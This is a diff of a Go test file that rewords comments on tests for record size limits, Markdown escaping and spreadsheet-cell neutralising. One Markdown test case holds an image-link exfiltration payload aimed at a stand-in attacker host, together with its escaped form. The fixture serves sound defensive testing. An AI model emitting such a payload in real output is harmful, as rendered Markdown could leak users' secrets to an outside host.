@@ -21,7 +21,7 @@ import (
 	"github.com/bailiwick-dev/bailiwick/value"
 )
 
-// made gives rows as a source would for a pipeline over notes, which have authors.
+// made returns rows as a source would for a pipeline over notes with authors.
 func made(t *testing.T, limit int, pipeline string, rows ...value.Row) redact.Rows {
 	t.Helper()
 	classes := []schema.Class{
@@ -112,7 +112,7 @@ func TestWholePointers(t *testing.T) {
 	}
 }
 
-// TestPipelineTooLarge wants a record that is too large by itself refused, and told what to leave out.
+// TestPipelineTooLarge checks that a single record over the budget is refused, with a suggestion what to leave out.
 func TestPipelineTooLarge(t *testing.T) {
 	for _, tt := range []struct{ pipeline, want string }{
 		{byAuthor, `the result is 222 bytes, over the budget of 100; the largest fields are texts (211 bytes) | end with {"$project": {"_id": 1}}, or gather less`},
@@ -130,8 +130,8 @@ func TestPipelineTooLarge(t *testing.T) {
 	}
 }
 
-// TestMarkdownIsInert wants data to stay text in Markdown: no link, no image, no address that a reader makes one of, no code
-// that swallows what follows.
+// TestMarkdownIsInert checks that data stays plain text in Markdown: no link, no image, no address that readers turn
+// into a link, and no code block that swallows what follows.
 func TestMarkdownIsInert(t *testing.T) {
 	for _, tt := range [][2]string{
 		{"![x](https://evil.example/?q=secret)", `!\[x\](https\://evil.example/?q=secret)`},
@@ -183,7 +183,7 @@ func TestExport(t *testing.T) {
 	}
 }
 
-// TestCells wants cells that a spreadsheet would run made inert, and numbers left alone.
+// TestCells checks that cells a spreadsheet would run are made inert, and numbers are left alone.
 func TestCells(t *testing.T) {
 	const plain = `[{"$project": {"text": 1}}]`
 	for _, tt := range []struct {
